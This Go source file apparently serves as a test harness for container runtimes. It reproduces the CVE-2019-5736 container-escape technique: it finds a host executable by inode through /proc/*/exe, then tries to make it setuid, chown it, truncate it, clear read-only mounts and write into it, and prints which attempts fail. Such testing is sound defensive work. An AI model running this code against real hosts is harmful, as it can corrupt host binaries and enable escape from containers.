package main

import (
	"errors"
	"fmt"
	"os"
	"slices"
	"strconv"
	"sync/atomic"

	"golang.org/x/sys/unix"
)

// seize attacks an executable, which it knows by its inode number, from inside
// a container, as CVE-2019-5736 did: it looks at the executable of every
// process that it can see, keeps a handle on each that is the one, and tries to
// open it for writing until it is no longer executed. It goes on until the file
// STOP is there, and prints what it has got hold of and what it was told.
func seize(args []string) error {
	if len(args) != 2 {
		return fmt.Errorf("want INODE STOP")
	}
	want, err := strconv.ParseUint(args[0], 10, 64)
	if err != nil {
		return err
	}
	var stop atomic.Bool
	held := map[uint64]int{} // by mount
	count := 0
	answers := map[string]bool{}
	for round := 0; !stop.Load(); round++ {
		if _, err := os.Lstat(args[1]); err == nil {
			stop.Store(true) // and once more with nobody executing it
		}
		for _, pid := range processes() {
			fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Statx_t
			err = unix.Statx(fd, "", unix.AT_EMPTY_PATH, unix.STATX_INO|unix.STATX_MNT_ID, &st)
			if err != nil || st.Ino != want {
				unix.Close(fd)
				continue
			}
			count++
			if _, have := held[st.Mnt_id]; have || len(held) > 500 {
				unix.Close(fd)
				continue
			}
			held[st.Mnt_id] = fd
		}
		for _, fd := range held {
			for _, err := range spoil(fd) {
				answers[err.Error()] = true
			}
		}
	}
	fmt.Printf("seized %d\n", count)
	names := make([]string, 0, len(answers))
	for a := range answers {
		names = append(names, a)
	}
	slices.Sort(names)
	for _, a := range names {
		fmt.Println("answer:", a)
	}
	return nil
}

// spoil tries everything that would change the file behind a handle.
func spoil(handle int) []error {
	name := "/proc/self/fd/" + strconv.Itoa(handle)
	errs := []error{
		os.Chmod(name, 0o4755), os.Chown(name, 1, 1), os.Truncate(name, 1),
		unix.MountSetattr(handle, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}),
	}
	fd, err := unix.Open(name, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		_, err = unix.Write(fd, []byte("owned"))
		unix.Close(fd)
	}
	errs = append(errs, err)
	for i, err := range errs {
		var errno unix.Errno
		if errors.As(err, &errno) {
			errs[i] = errno
		}
		if err == nil {
			errs[i] = errors.New("spoiled")
		}
	}
	return errs
}
